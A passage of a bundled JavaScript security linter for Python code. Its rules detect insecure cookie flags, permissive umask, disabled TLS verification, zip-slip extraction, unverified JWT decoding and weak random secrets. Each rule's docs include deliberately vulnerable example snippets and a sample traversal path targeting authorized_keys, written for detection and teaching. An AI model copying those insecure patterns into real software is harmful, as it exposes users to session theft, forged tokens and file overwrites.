      fix: "Set SESSION_COOKIE_SECURE = True (and REMEMBER_COOKIE_SECURE) for HTTPS deployments; leave SESSION_COOKIE_HTTPONLY and REMEMBER_COOKIE_HTTPONLY at True.",
      triggers: Object.keys(COOKIE_FLAGS2),
      docs: {
        why: "SESSION_COOKIE_SECURE keeps Flask's signed session cookie off plain-HTTP requests, where a network attacker copies it and becomes the user; SESSION_COOKIE_HTTPONLY keeps it away from page scripts. Writing False in `app.config`, `app.config.update(...)`, a config module or a production config class ships without them. Medium severity, as for the Django settings (django-insecure-cookie); config classes named for development, debugging, tests or local runs are not reported.",
        bad: [
          'from flask import Flask\napp = Flask(__name__)\napp.config["SESSION_COOKIE_SECURE"] = False\n',
          'from flask import Flask\napp = Flask(__name__)\napp.config.update(SESSION_COOKIE_HTTPONLY=False, SESSION_COOKIE_SAMESITE="Lax")\n',
          "class ProductionConfig:\n    SECRET_KEY = load_secret()\n    SESSION_COOKIE_SECURE = False\n"
        ],
        good: [
          'from flask import Flask\napp = Flask(__name__)\napp.config.update(SESSION_COOKIE_SECURE=True, SESSION_COOKIE_HTTPONLY=True, SESSION_COOKIE_SAMESITE="Lax")\n',
          "class DevelopmentConfig:\n    SESSION_COOKIE_SECURE = False  # local HTTP server\n"
        ],
        references: ["https://flask.palletsprojects.com/en/stable/config/#SESSION_COOKIE_SECURE", "https://flask-login.readthedocs.io/en/latest/#cookie-settings", "https://cwe.mitre.org/data/definitions/614.html"]
      },
      create(context) {
        const { module: module2 } = context;
        const isOff = (value) => {
          const constant = value ? module2.constant(value) : void 0;
          return constant === false || constant === 0;
        };
        const report = (node, setting) => context.report({ node, message: `${setting} = False: ${COOKIE_FLAGS2[setting]}` });
        const isConfig = (node) => node?.type === "attribute" && node.childForFieldName("attribute")?.text === "config";
        return {
          assignment(node) {
            const target = node.childForFieldName("left");
            const value = node.childForFieldName("right");
            if (!target || !isOff(value))
              return;
            if (target.type === "subscript" && isConfig(target.childForFieldName("value"))) {
              const key = target.childForFieldName("subscript");
              const setting = key ? module2.constant(key) : void 0;
              if (typeof setting === "string" && setting in COOKIE_FLAGS2)
                report(node, setting);
              return;
            }
            if (target.type !== "identifier" || !(target.text in COOKIE_FLAGS2) || enclosingFunction(node))
              return;
            const owner = enclosingClass(node);
            const name = owner?.childForFieldName("name")?.text;
            if (owner ? name && /config|settings/i.test(name) && !LOCAL_CONFIG.test(name) : !isDjangoSettingsModule(module2))
              report(node, target.text);
          },
          call(node) {
            const callee = node.childForFieldName("function");
            if (callee?.type !== "attribute" || !CONFIG_METHODS.has(callee.childForFieldName("attribute")?.text ?? "") || !isConfig(callee.childForFieldName("object")))
              return;
            for (const argument2 of node.childForFieldName("arguments")?.namedChildren ?? []) {
              const pairs = argument2.type === "dictionary" ? argument2.namedChildren : [argument2];
              for (const pair of pairs) {
                const key = pair.type === "keyword_argument" ? pair.childForFieldName("name")?.text : pair.type === "pair" ? module2.constant(pair.childForFieldName("key")) : void 0;
                if (typeof key === "string" && key in COOKIE_FLAGS2 && isOff(pair.childForFieldName("value")))
                  report(pair, key);
              }
            }
          }
        };
      }
    });
  }
});

// dist/rules/insecure-config/pyramid-insecure-cookie.js
var FACTORIES, pyramid_insecure_cookie_default;
var init_pyramid_insecure_cookie = __esm({
  "dist/rules/insecure-config/pyramid-insecure-cookie.js"() {
    "use strict";
    init_types();
    init_name_triggers();
    init_arguments();
    FACTORIES = {
      "pyramid.session.SignedCookieSessionFactory": { secure: "secure", httponly: "httponly", cookie: "session" },
      "pyramid.session.BaseCookieSessionFactory": { secure: "secure", httponly: "httponly", cookie: "session" },
      "pyramid.session.UnencryptedCookieSessionFactoryConfig": { secure: "cookie_secure", httponly: "cookie_httponly", cookie: "session" },
      "pyramid.authentication.AuthTktAuthenticationPolicy": { secure: "secure", httponly: "http_only", cookie: "auth ticket" },
      "pyramid.authentication.AuthTktCookieHelper": { secure: "secure", httponly: "http_only", cookie: "auth ticket" }
    };
    pyramid_insecure_cookie_default = defineRule({
      id: "pyramid-insecure-cookie",
      aliases: [],
      category: "insecure-config",
      cwe: 614,
      severity: "high",
      confidence: "medium",
      cost: "fast",
      message: "a Pyramid session or auth-ticket cookie is made without secure/httponly",
      fix: "Pass secure=True and httponly=True (http_only=True for the AuthTkt classes) to the factory.",
      triggers: Object.keys(FACTORIES).map(nameTrigger),
      callees: Object.keys(FACTORIES).map(lastName),
      docs: {
        why: "Pyramid's cookie session factories and auth-ticket policies default to secure=False and httponly=False: the cookie that identifies the logged-in user travels over plain HTTP and is readable by page scripts, so a network attacker or any XSS bug takes over accounts. High severity, as a session cookie set without the flags by set_cookie (insecure-cookie-flags); a flag passed from settings counts as set.",
        bad: [
          'from pyramid.session import SignedCookieSessionFactory\nsession_factory = SignedCookieSessionFactory(settings["session.secret"])\n',
          'from pyramid.authentication import AuthTktAuthenticationPolicy\npolicy = AuthTktAuthenticationPolicy(settings["auth.secret"], hashalg="sha512", secure=True)\n'
        ],
        good: [
          'from pyramid.session import SignedCookieSessionFactory\nsession_factory = SignedCookieSessionFactory(settings["session.secret"], secure=True, httponly=True)\n',
          'from pyramid.authentication import AuthTktAuthenticationPolicy\npolicy = AuthTktAuthenticationPolicy(settings["auth.secret"], hashalg="sha512", secure=True, http_only=True)\n'
        ],
        references: ["https://docs.pylonsproject.org/projects/pyramid/en/latest/api/session.html", "https://docs.pylonsproject.org/projects/pyramid/en/latest/api/authentication.html", "https://cwe.mitre.org/data/definitions/614.html"]
      },
      create(context) {
        const { module: module2 } = context;
        const off = (value) => {
          if (!value)
            return true;
          const constant = module2.constant(value);
          return constant === false || constant === 0 || constant === null;
        };
        return {
          call(node) {
            const name = module2.callName(node);
            const factory = name === void 0 ? void 0 : FACTORIES[name];
            if (!factory || hasKeywordSplat(node))
              return;
            const missing = [factory.secure, factory.httponly].filter((flag) => off(keywordArgument(node, flag)));
            if (missing.length === 0)
              return;
            context.report({ node, message: `${lastName(name)}() makes its ${factory.cookie} cookie without ${missing.map((flag) => `${flag}=True`).join(" and ")}: it travels over plain HTTP or is readable by page scripts` });
          }
        };
      }
    });
  }
});

// dist/rules/insecure-config/os-permissive-umask.js
var UMASK, GROUP_WRITE, OTHER_WRITE, os_permissive_umask_default;
var init_os_permissive_umask = __esm({
  "dist/rules/insecure-config/os-permissive-umask.js"() {
    "use strict";
    init_types();
    init_name_triggers();
    init_syntax();
    init_arguments();
    UMASK = "os.umask";
    GROUP_WRITE = 16;
    OTHER_WRITE = 2;
    os_permissive_umask_default = defineRule({
      id: "os-permissive-umask",
      aliases: [],
      category: "insecure-config",
      cwe: 732,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "umask lets other users write the files and directories this process creates",
      fix: "Keep at least 0o022 in the mask (`os.umask(0o022)`, or 0o077 for private data); give individual files wider modes explicitly with os.chmod when they really need it.",
      triggers: ["umask"],
      callees: [lastName(UMASK)],
      docs: {
        why: "The umask removes permission bits from every file and directory the process creates afterwards, including files created by libraries. os.umask(0) (a line of many daemonisation recipes) makes them world-writable: any local user can then replace configuration, data or code the program later trusts. A mask without the group-write bit (0o002) is reported at low severity: shared-group setups use it on purpose. Reading the mask with `old = os.umask(0); os.umask(old)` is not reported.",
        bad: [
          "import os\nos.umask(0)\n",
          "import os\ndef daemonize():\n    os.setsid()\n    os.umask(0o000)\n"
        ],
        good: [
          "import os\nos.umask(0o077)\n",
          "import os\ndef current_umask():\n    mask = os.umask(0)\n    os.umask(mask)\n    return mask\n"
        ],
        references: ["https://docs.python.org/3/library/os.html#os.umask", "https://cwe.mitre.org/data/definitions/732.html"]
      },
      create(context) {
        function isRestoredAtOnce(call) {
          const assignment = call.parent;
          const target = assignment?.type === "assignment" ? assignment.childForFieldName("left") : null;
          if (target?.type !== "identifier")
            return false;
          const scope = enclosingFunction(call) ?? context.module.root;
          return scope.descendantsOfType("call").some((other) => other.startIndex > call.endIndex && context.module.callName(other) === UMASK && argument(other, "mask", 0)?.text === target.text);
        }
        return {
          call(node) {
            if (context.module.callName(node) !== UMASK)
              return;
            const maskArgument = argument(node, "mask", 0);
            const mask2 = maskArgument ? context.module.constant(maskArgument) : void 0;
            if (typeof mask2 !== "number" || !Number.isInteger(mask2))
              return;
            if ((mask2 & (GROUP_WRITE | OTHER_WRITE)) === (GROUP_WRITE | OTHER_WRITE))
              return;
            if (isRestoredAtOnce(node))
              return;
            const octal = `0o${mask2.toString(8).padStart(3, "0")}`;
            if ((mask2 & OTHER_WRITE) === 0) {
              context.report({ node, message: `os.umask(${octal}) lets every user write the files and directories this process creates` });
            } else {
              context.report({ node, severity: "low", message: `os.umask(${octal}) lets the group write the files and directories this process creates` });
            }
          }
        };
      }
    });
  }
});

// dist/rules/insecure-transport/ssl-default-context-unverified.js
var DEFAULT_CONTEXT_FACTORY, UNVERIFIED_FACTORIES, ssl_default_context_unverified_default;
var init_ssl_default_context_unverified = __esm({
  "dist/rules/insecure-transport/ssl-default-context-unverified.js"() {
    "use strict";
    init_types();
    DEFAULT_CONTEXT_FACTORY = "ssl._create_default_https_context";
    UNVERIFIED_FACTORIES = /* @__PURE__ */ new Set(["ssl._create_unverified_context", "ssl._create_stdlib_context"]);
    ssl_default_context_unverified_default = defineRule({
      id: "ssl-default-context-unverified",
      aliases: [],
      category: "insecure-transport",
      cwe: 295,
      severity: "high",
      confidence: "high",
      cost: "fast",
      message: "ssl._create_default_https_context replaced by an unverified context: every HTTPS connection in the process stops checking certificates",
      fix: 'Remove the override. If a server uses a private CA, load it: `ssl.create_default_context(cafile="corp-ca.pem")` passed as `context=` where needed, or set SSL_CERT_FILE.',
      triggers: ["_create_default_https_context"],
      docs: {
        why: "This monkey-patch makes urllib, http.client and everything built on them accept any certificate for any host, process-wide, including in libraries the author never looked at. A network attacker can then read and change all HTTPS traffic. Bandit's B323 only sees calls to ssl._create_unverified_context(); the assignment of the function itself passes unnoticed.",
        bad: [
          "import ssl\nssl._create_default_https_context = ssl._create_unverified_context\n",
          "from ssl import _create_unverified_context\nimport ssl\nssl._create_default_https_context = _create_unverified_context\n"
        ],
        good: [
          'import ssl\nCONTEXT = ssl.create_default_context(cafile="corp-ca.pem")\n',
          "import ssl\nssl._create_default_https_context = ssl.create_default_context\n"
        ],
        references: ["https://peps.python.org/pep-0476/#opting-out", "https://docs.python.org/3/library/ssl.html#ssl-security", "https://cwe.mitre.org/data/definitions/295.html"]
      },
      create(context) {
        return {
          assignment(node) {
            const left = node.childForFieldName("left");
            const right = node.childForFieldName("right");
            if (!left || !right || left.type !== "attribute")
              return;
            if (context.module.qualifiedName(left) !== DEFAULT_CONTEXT_FACTORY)
              return;
            const factory = context.module.qualifiedName(right);
            if (factory && UNVERIFIED_FACTORIES.has(factory))
              context.report({ node });
          }
        };
      }
    });
  }
});

// dist/rules/insecure-transport/urllib3-warnings-disabled.js
function tlsWarningClass(node, module2) {
  const name = module2.qualifiedName(node) ?? "";
  const last = lastName(name);
  return TLS_WARNINGS.has(last) && (name.includes("urllib3") || !name.includes(".")) ? last : void 0;
}
var DISABLERS, WARNING_FILTERS, TLS_WARNINGS, urllib3_warnings_disabled_default;
var init_urllib3_warnings_disabled = __esm({
  "dist/rules/insecure-transport/urllib3-warnings-disabled.js"() {
    "use strict";
    init_types();
    init_name_triggers();
    init_arguments();
    DISABLERS = /* @__PURE__ */ new Set(["urllib3.disable_warnings", "requests.packages.urllib3.disable_warnings"]);
    WARNING_FILTERS = /* @__PURE__ */ new Set(["warnings.filterwarnings", "warnings.simplefilter"]);
    TLS_WARNINGS = /* @__PURE__ */ new Set(["InsecureRequestWarning", "SecurityWarning", "SubjectAltNameWarning", "InsecurePlatformWarning", "SNIMissingWarning", "SystemTimeWarning", "HTTPWarning"]);
    urllib3_warnings_disabled_default = defineRule({
      id: "urllib3-warnings-disabled",
      aliases: [],
      category: "insecure-transport",
      cwe: 295,
      severity: "medium",
      confidence: "medium",
      cost: "fast",
      message: "urllib3 warnings silenced: requests made without certificate verification no longer say so",
      fix: "Remove the call and fix the cause of the warning: keep verify=True, or point verify= at the CA bundle that signs the server's certificate.",
      // disable_warnings() may name no warning; a warnings filter reports only with a TLS warning class written out.
      triggers: ["disable_warnings", ...TLS_WARNINGS],
      callees: [...DISABLERS, ...WARNING_FILTERS].map(lastName),
      docs: {
        why: "InsecureRequestWarning is urllib3's (and requests') only signal that an HTTPS request skipped certificate verification. Code silences it because it also passes verify=False somewhere; the warning is the last trace of that, and the silence hides new unverified requests too. Medium severity: the call hides the problem rather than causing it.",
        bad: [
          "import urllib3\nurllib3.disable_warnings(urllib3.exceptions.InsecureRequestWarning)\n",
          "import requests\nrequests.packages.urllib3.disable_warnings()\n",
          'import warnings\nfrom urllib3.exceptions import InsecureRequestWarning\nwarnings.simplefilter("ignore", InsecureRequestWarning)\n'
        ],
        good: [
          "import urllib3\nurllib3.disable_warnings(urllib3.exceptions.DependencyWarning)\n",
          'import warnings\nwarnings.simplefilter("ignore", DeprecationWarning)\n'
        ],
        references: ["https://urllib3.readthedocs.io/en/stable/advanced-usage.html#tls-warnings", "https://cwe.mitre.org/data/definitions/295.html"]
      },
      create(context) {
        return {
          call(node) {
            const name = context.module.callName(node);
            if (name === void 0)
              return;
            if (DISABLERS.has(name)) {
              const category = argument(node, "category", 0);
              if (!category) {
                context.report({ node, message: "urllib3.disable_warnings() with no category silences InsecureRequestWarning too: requests without certificate verification no longer say so" });
                return;
              }
              const warning = tlsWarningClass(category, context.module);
              if (warning)
                context.report({ node, confidence: warning === "InsecureRequestWarning" ? "high" : "medium", message: `urllib3 ${warning} silenced: requests made without certificate verification no longer say so` });
              return;
            }
            if (WARNING_FILTERS.has(name)) {
              const action = argument(node, "action", 0);
              const category = argument(node, "category", name === "warnings.simplefilter" ? 1 : 2);
              if (!action || context.module.constant(action) !== "ignore" || !category)
                return;
              const warning = tlsWarningClass(category, context.module);
              if (warning)
                context.report({ node, confidence: warning === "InsecureRequestWarning" ? "high" : "medium", message: `urllib3 ${warning} filtered out: requests made without certificate verification no longer say so` });
            }
          }
        };
      }
    });
  }
});

// dist/rules/path-traversal/archive-extraction.js
function memberName(node) {
  if (node.type === "identifier")
    return node;
  if (node.type === "attribute" && ["filename", "name"].includes(node.childForFieldName("attribute")?.text ?? "")) {
    const object = node.childForFieldName("object");
    return object?.type === "identifier" ? object : void 0;
  }
  return void 0;
}
var TAR_FORMATS, PATH_JOINS2, archive_extraction_default;
var init_archive_extraction = __esm({
  "dist/rules/path-traversal/archive-extraction.js"() {
    "use strict";
    init_types();
    init_name_triggers();
    init_arguments();
    init_archive_members();
    TAR_FORMATS = /* @__PURE__ */ new Set(["tar", "gztar", "bztar", "xztar", "zstdtar"]);
    PATH_JOINS2 = /* @__PURE__ */ new Set(["os.path.join", "posixpath.join", "ntpath.join"]);
    archive_extraction_default = defineRule({
      id: "archive-extraction",
      aliases: [],
      category: "path-traversal",
      cwe: 22,
      severity: "high",
      confidence: "medium",
      cost: "fast",
      message: "archive extracted without a path filter: a member named ../../\u2026 is written outside the target directory",
      fix: 'Pass filter="data" (Python 3.12+, backported to 3.8\u20133.11 security releases) to shutil.unpack_archive; when extracting members by hand, resolve each target and check it stays under the destination.',
      // Both findings need a word the file spells: `unpack_archive`, or the member listing the loop iterates (`namelist()`).
      triggers: ["unpack_archive", ...MEMBER_LISTINGS],
      // The call handler reports only shutil.unpack_archive() and the path joins (binary_operator is not filtered).
      callees: ["shutil.unpack_archive", ...PATH_JOINS2].map(lastName),
      docs: {
        why: 'Archive members carry names chosen by whoever made the archive: `../../home/app/.ssh/authorized_keys`, absolute paths, or symlinks pointing out of the tree. shutil.unpack_archive of a tar archive before Python 3.14 (where filter="data" became the default) writes them where they point unless filter="data" is given; code that joins member names onto a directory itself does the same ("zip slip"). zipfile\'s own extract()/extractall() are not reported: CPython strips absolute prefixes and ".." components from zip member names. tarfile.extractall is reported by tarfile-unsafe-members (B202).',
        bad: [
          "import shutil\ndef install(upload, dest):\n    shutil.unpack_archive(upload, dest)\n",
          'import os, zipfile\ndef unpack(path, dest):\n    with zipfile.ZipFile(path) as archive:\n        for name in archive.namelist():\n            with open(os.path.join(dest, name), "wb") as out:\n                out.write(archive.read(name))\n'
        ],
        good: [
          'import shutil\ndef install(upload, dest):\n    shutil.unpack_archive(upload, dest, filter="data")\n',
          'import shutil\ndef install(upload, dest):\n    shutil.unpack_archive(upload, dest, format="zip")\n',
          "import zipfile\ndef unpack(path, dest):\n    with zipfile.ZipFile(path) as archive:\n        archive.extractall(dest)\n",
          'import os, zipfile\ndef unpack(path, dest):\n    with zipfile.ZipFile(path) as archive:\n        for name in archive.namelist():\n            target = os.path.realpath(os.path.join(dest, name))\n            if not target.startswith(os.path.realpath(dest) + os.sep):\n                raise ValueError(name)\n            with open(target, "wb") as out:\n                out.write(archive.read(name))\n'
        ],
        references: ["https://docs.python.org/3/library/shutil.html#shutil.unpack_archive", "https://docs.python.org/3/library/tarfile.html#extraction-filters", "https://snyk.io/research/zip-slip-vulnerability", "https://cwe.mitre.org/data/definitions/22.html"]
      },
      create(context) {
        return {
          call(node) {
            const name = context.module.callName(node);
            if (name === "shutil.unpack_archive") {
              if (hasKeyword(node, "filter"))
                return;
              const format = argument(node, "format", 2);
              const formatName = format ? context.module.constant(format) : void 0;
              const file = argument(node, "filename", 0);
              const fileName = file ? context.module.constant(file) : void 0;
              if (formatName === "zip" || formatName === void 0 && typeof fileName === "string" && /\.zip$/i.test(fileName))
                return;
              if (typeof formatName === "string" && TAR_FORMATS.has(formatName)) {
                context.report({ node, confidence: "high", message: "shutil.unpack_archive of a tar archive without filter=: members named ../\u2026 or symlinks are written outside the target directory" });
              } else {
                context.report({ node, severity: "medium", message: "shutil.unpack_archive without filter=: a tar archive's members named ../\u2026 or symlinks are written outside the target directory" });
              }
              return;
            }
            if (name === void 0 || !PATH_JOINS2.has(name))
              return;
            for (const part of argumentList(node).slice(1)) {
              if (reportUncheckedMember(node, part))
                return;
            }
          },
          binary_operator(node) {
            const right = node.childForFieldName("right");
            if (node.childForFieldName("operator")?.type === "/" && right)
              reportUncheckedMember(node, right);
          }
        };
        function reportUncheckedMember(at, part) {
          const member = memberName(part);
          const loop = member ? memberLoop(member, context.module) : void 0;
          if (!loop || checksContainment(loop, context.module))
            return false;
          context.report({ node: at, message: `archive member name '${part.text}' joined onto a directory without a containment check: a member named ../\u2026 lands outside it (zip slip)` });
          return true;
        }
      }
    });
  }
});

// dist/rules/weak-crypto/jwt-verify-disabled.js
function signatureCheckOff(options, module2) {
  let mapping = options;
  if (options.type === "identifier") {
    const values = module2.valuesOf(options);
    mapping = values?.length === 1 ? values[0] : void 0;
  }
  if (mapping?.type === "call" && module2.callName(mapping) === "dict") {
    return keywordArgumentNode(mapping, "verify_signature") && module2.constant(keywordArgument(mapping, "verify_signature")) === false ? keywordArgumentNode(mapping, "verify_signature") : void 0;
  }
  if (mapping?.type !== "dictionary")
    return void 0;
  return mapping.namedChildren.find((pair) => {
    const key = pair.type === "pair" ? pair.childForFieldName("key") : null;
    const value = pair.childForFieldName("value");
    return !!key && !!value && module2.constant(key) === "verify_signature" && module2.constant(value) === false;
  });
}
function acceptsNone(algorithms, module2) {
  const value = module2.constant(algorithms);
  const names = Array.isArray(value) ? value : [value];
  return names.some((name) => typeof name === "string" && name.toLowerCase() === "none");
}
var DECODERS, jwt_verify_disabled_default;
var init_jwt_verify_disabled = __esm({
  "dist/rules/weak-crypto/jwt-verify-disabled.js"() {
    "use strict";
    init_name_triggers();
    init_types();
    init_arguments();
    DECODERS = /* @__PURE__ */ new Set([
      "jwt.decode",
      "jwt.api_jwt.decode",
      "jwt.PyJWT().decode",
      "jwt.api_jwt.PyJWT().decode",
      "jwt.decode_complete",
      "jwt.api_jwt.decode_complete",
      "jwt.PyJWT().decode_complete",
      "jose.jwt.decode",
      "jose.jws.verify"
    ]);
    jwt_verify_disabled_default = defineRule({
      id: "jwt-verify-disabled",
      aliases: [],
      category: "weak-crypto",
      cwe: 347,
      severity: "high",
      confidence: "high",
      cost: "fast",
      message: "JWT decoded without verifying its signature: anyone can forge the claims",
      fix: 'Verify the token: `jwt.decode(token, key, algorithms=["RS256"])`. To read the header before choosing a key use jwt.get_unverified_header(), then verify with the chosen key.',
      // The first segment of every decoder's qualified name.
      triggers: [...new Set([...DECODERS].map((name) => name.split(".")[0]))],
      callees: [...DECODERS].map(lastName),
      docs: {
        why: `A JWT is only as trustworthy as its signature check. options={"verify_signature": False} (PyJWT 2, python-jose), verify=False (PyJWT 1) or accepting the "none" algorithm returns whatever claims the sender wrote, so a user can make themselves admin by editing the token. Peeking at claims before verification has a narrow legitimate use (choosing the issuer's key); suppress those with a reason.`,
        bad: [
          'import jwt\ndef user(token):\n    return jwt.decode(token, options={"verify_signature": False})["sub"]\n',
          "import jwt\ndef user(token, key):\n    return jwt.decode(token, key, verify=False)\n",
          'import jwt\ndef user(token, key):\n    return jwt.decode(token, key, algorithms=["HS256", "none"])\n',
          'from jose import jwt\nOPTIONS = {"verify_signature": False}\ndef user(token, key):\n    return jwt.decode(token, key, options=OPTIONS)\n'
        ],
        good: [
          'import jwt\ndef user(token, key):\n    return jwt.decode(token, key, algorithms=["HS256"])\n',
          'import jwt\ndef user(token, key):\n    return jwt.decode(token, key, algorithms=["RS256"], options={"verify_aud": False})\n'
        ],
        references: ["https://pyjwt.readthedocs.io/en/stable/api.html#jwt.decode", "https://python-jose.readthedocs.io/en/latest/jwt/api.html", "https://cwe.mitre.org/data/definitions/347.html"]
      },
      create(context) {
        return {
          call(node) {
            const name = context.module.callName(node);
            if (name === void 0 || !DECODERS.has(name))
              return;
            const options = keywordArgument(node, "options");
            const off = options ? signatureCheckOff(options, context.module) : void 0;
            if (off) {
              context.report({ node, message: 'JWT decoded with options {"verify_signature": False}: anyone can forge the claims' });
              return;
            }
            const verify = keywordArgument(node, "verify");
            if (verify && context.module.constant(verify) === false) {
              context.report({ node, message: "JWT decoded with verify=False: anyone can forge the claims" });
              return;
            }
            const algorithms = keywordArgument(node, "algorithms");
            if (algorithms && acceptsNone(algorithms, context.module)) {
              context.report({ node, message: 'JWT decoding accepts the "none" algorithm: an unsigned token passes as valid' });
            }
          }
        };
      }
    });
  }
});

// dist/rules/weak-random/weak-random.js
function words(name) {
  return name.replace(/([a-z0-9])([A-Z])/g, "$1_$2").replace(/([A-Z]+)([A-Z][a-z])/g, "$1_$2").toLowerCase().split(/[^a-z0-9]+/).filter(Boolean);
}
function namesSecret(name, shape = {}) {
  const parts = words(name);
  if (parts.some((part) => NOT_SECRET_WORDS.has(part)))
    return false;
  return parts.some((part, index) => {
    if (SECRET_WORDS2.has(part))
      return true;
    const before = parts[index - 1];
    const after = parts[index + 1];
    if (part === "key" || part === "keys")
      return before !== void 0 && KEY_QUALIFIERS2.has(before) || !!shape.bits && parts.length === 1;
    if (part === "session")
      return after !== void 0 && SESSION_QUALIFIED.has(after);
    if (part === "remember")
      return after === "me";
    if (part === "code" || part === "pin")
      return before !== void 0 && CODE_QUALIFIERS.has(before) || !!shape.generated && parts.length === 1;
    return false;
  });
}
function isAlphabet(node, module2, depth = 0) {
  if (depth > 4)
    return false;
  switch (node.type) {
    case "string":
    case "concatenated_string":
      return true;
    case "attribute":
    case "identifier": {
      if ((module2.qualifiedName(node) ?? "").startsWith("string."))
        return true;
      if (node.type !== "identifier")
        return false;
      return (module2.valuesOf(node) ?? []).some((value) => isAlphabet(value, module2, depth + 1));
    }
    case "binary_operator":
      return [node.childForFieldName("left"), node.childForFieldName("right")].some((side) => !!side && isAlphabet(side, module2, depth + 1));
    case "parenthesized_expression":
      return !!node.firstNamedChild && isAlphabet(node.firstNamedChild, module2, depth + 1);
    case "call": {
      const name = module2.callName(node);
      if (name === "range")
        return true;
      const first = argument(node, null, 0);
      return (name === "list" || name === "tuple") && !!first && isAlphabet(first, module2, depth + 1);
    }
    case "list":
    case "tuple":
      return node.namedChildCount > 0 && node.namedChildren.every((item) => {
        const value = module2.constant(item);
        return typeof value === "string" && value.length === 1 || typeof value === "number" && value >= 0 && value < 10;
      });
    default:
      return false;
  }
}
function targetNames(target, module2) {
  switch (target.type) {
    case "identifier":
      return [target.text];
    case "attribute":
      return [target.childForFieldName("attribute")?.text ?? ""];
    case "subscript": {
      const key = target.childForFieldName("subscript");
      const value = key ? module2.constant(key) : void 0;
      return typeof value === "string" ? [value] : [];
    }
    case "pattern_list":
    case "tuple_pattern":
    case "tuple":
    case "list_pattern":
      return target.namedChildren.flatMap((item) => targetNames(item, module2));
    default:
      return [];
  }
}
var RANDOM_FUNCTIONS, GENERATORS2, PICKERS, BIT_SOURCES, SECRET_WORDS2, SECRET_PARAMETERS, KEY_QUALIFIERS2, SESSION_QUALIFIED, CODE_QUALIFIERS, NOT_SECRET_WORDS, HARMLESS_PURPOSES, STOPS, weak_random_default;
var init_weak_random = __esm({
  "dist/rules/weak-random/weak-random.js"() {
    "use strict";
    init_name_triggers();
    init_types();
    init_syntax();
    init_arguments();
    init_cookie_names();
    RANDOM_FUNCTIONS = ["random", "randint", "choice", "choices", "randrange", "sample", "getrandbits", "randbytes", "uniform", "triangular"];
    GENERATORS2 = /* @__PURE__ */ new Set([
      ...RANDOM_FUNCTIONS.map((name) => `random.${name}`),
      ...RANDOM_FUNCTIONS.map((name) => `random.Random().${name}`),
      "numpy.random.randint",
      "numpy.random.choice",
      "numpy.random.bytes",
      "numpy.random.random",
      "numpy.random.rand",
      "numpy.random.default_rng().integers",
      "numpy.random.default_rng().choice",
      "numpy.random.default_rng().bytes"
    ]);
    PICKERS = /* @__PURE__ */ new Set(["choice", "choices", "sample"]);
    BIT_SOURCES = /* @__PURE__ */ new Set(["getrandbits", "randbytes", "bytes"]);
    SECRET_WORDS2 = /* @__PURE__ */ new Set([
      "token",
      "tokens",
      "password",
      "passwords",
      "passwd",
      "pwd",
      "passphrase",
      "secret",
      "nonce",
      "salt",
      "otp",
      "totp",
      "hotp",
      "csrf",
      "xsrf",
      "apikey",
      "credential",
      "credentials",
      "sessionid",
      "sessid",
      "csrftoken",
      "verifier",
      "cookie",
      "sid"
    ]);
    SECRET_PARAMETERS = /* @__PURE__ */ new Map([
      ["crypt.crypt", [1, "the salt of crypt.crypt()"]],
      ["hashlib.pbkdf2_hmac", [2, "the salt of hashlib.pbkdf2_hmac()"]],
      ["hmac.new", [0, "an HMAC key"]],
      ["jwt.encode", [1, "a JWT signing key"]],
      ["Crypto.Cipher.AES.new", [0, "an AES key"]],
      ["Cryptodome.Cipher.AES.new", [0, "an AES key"]]
    ]);
    KEY_QUALIFIERS2 = /* @__PURE__ */ new Set(["api", "secret", "private", "access", "session", "signing", "sign", "encryption", "encrypt", "crypt", "crypto", "aes", "hmac", "auth", "license", "licence", "activation", "master", "shared", "symmetric", "cipher", "jwt"]);
    SESSION_QUALIFIED = /* @__PURE__ */ new Set(["id", "key", "token", "secret"]);
    CODE_QUALIFIERS = /* @__PURE__ */ new Set(["verification", "verify", "confirm", "confirmation", "reset", "auth", "authorization", "otp", "invite", "invitation", "activation", "access", "login", "security", "sms", "mfa", "2fa", "twofa", "recovery", "backup", "coupon", "promo", "voucher", "magic", "pairing", "unlock", "secret", "pin"]);
    NOT_SECRET_WORDS = /* @__PURE__ */ new Set([
      "len",
      "length",
      "size",
      "count",
      "num",
      "number",
      "index",
      "idx",
      "pos",
      "position",
      "ttl",
      "expiry",
      "expires",
      "expire",
      "expiration",
      "timeout",
      "delay",
      "interval",
      "sleep",
      "wait",
      "retry",
      "retries",
      "jitter",
      "backoff",
      "type",
      "kind",
      "name",
      "label",
      "field",
      "color",
      "colour",
      "word",
      "limit",
      "max",
      "min",
      "rate",
      "ratio",
      "weight",
      "probability",
      "prob",
      "chance",
      "fake",
      "dummy",
      "mock",
      "test",
      "stub",
      "example",
      "placeholder"
    ]);
    HARMLESS_PURPOSES = /* @__PURE__ */ new Set(["boundary", "temp", "tmp", "tempfile", "filename", "shuffle", "jitter", "sample", "sampling", "demo", "simulate", "simulation"]);
    STOPS = /* @__PURE__ */ new Set([
      "expression_statement",
      "if_statement",
      "elif_clause",
      "while_statement",
      "for_statement",
      "block",
      "module",
      "function_definition",
      "lambda",
      "class_definition",
      "comparison_operator",
      "assert_statement",
      "with_statement",
      "decorator"
    ]);
    weak_random_default = defineRule({
      id: "weak-random",
      aliases: ["B311", "S311", "random"],
      category: "weak-random",
      cwe: 330,
      severity: "high",
      confidence: "medium",
      cost: "fast",
      message: "the random module is predictable, yet its output is used as a secret",
      fix: "Use the secrets module: secrets.token_urlsafe(32), secrets.token_hex(16), secrets.choice(alphabet), secrets.randbelow(10**6).",
      // A segment of every generator's qualified name (`random.choice`, `numpy.random.randint`).
      triggers: ["random"],
      callees: [...[...GENERATORS2].map(lastName), "Random"],
      docs: {
        why: "Python's random module is a Mersenne Twister: after 624 outputs (fewer with some knowledge of the seed) every past and future value can be computed. Tokens, passwords, salts, nonces, one-time codes and session ids made with it can be predicted by whoever sees a few of them. Unlike Bandit's B311, which reports every call to random, this rule reports a call only with evidence that the value is a secret: it is assigned to, returned from a function named for, passed as or stored under a name such as token, password, secret, nonce, salt, otp, api_key, session_id or reset_code. It also reports a value that becomes a cookie (`response.set_cookie(\"sid\", str(random.random()))`, directly or through a local name), the salt of crypt.crypt()/hashlib.pbkdf2_hmac(), or the key of hmac.new()/jwt.encode()/AES.new(). A cookie with a neutral name (`ab_bucket`) is reported at low confidence and does not block. Shuffling, sampling, jitter and test data are not reported. With that evidence the finding is high severity (a predictable secret is a broken secret) and medium confidence (a name is evidence, not proof), so it blocks a commit by default.",
        bad: [
          'import random, string\ndef reset(user):\n    user.reset_token = "".join(random.choice(string.ascii_letters) for _ in range(32))\n',
